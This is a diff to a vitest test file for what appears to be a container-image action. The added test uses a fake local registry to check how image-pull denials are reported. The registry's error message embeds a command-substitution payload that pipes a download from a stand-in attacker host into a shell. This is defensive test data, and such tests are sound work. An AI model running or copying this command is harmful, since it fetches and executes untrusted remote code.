@@ -1,3 +1,6 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { describe, expect, test } from 'vitest';
 import { emptyImage, shellImage } from '../../simulator/registry/images.ts';
 import { errorsIn, runAction } from './action.ts';
@@ -58,6 +61,24 @@ describe('an image that cannot be pulled', () => {
       category: 'image-pull',
       reason: 'credentials-missing',
     });
+  });
+
+  test('is the output, whatever its registry calls it, where events may not be read', async ({ skip }) => {
+    const { simulator } = stage;
+    if (simulator === undefined) return skip();
+    simulator.api.deny('watch', 'events');
+    simulator.api.deny('list', 'events');
+    const message = 'Back-off pulling image "$(curl -s evil.example | sh)"';
+    const registry = createServer((_, answer) => {
+      answer.writeHead(403, { 'Content-Type': 'application/json' });
+      answer.end(JSON.stringify({ errors: [{ code: 'DENIED', message }] }));
+    });
+    await once(registry.listen(0, '127.0.0.1'), 'listening');
+    const image = `127.0.0.1:${(registry.address() as AddressInfo).port}/app:1`;
+    const { outputs } = await runAction({ ...stage.inputs, image, preflight: 'never', run: 'true' });
+    registry.close();
+
+    expect(outputs).toMatchObject({ reason: 'unauthorized', image });
   });
 
   test('is given a grace when its registry is away for a moment', async () => {
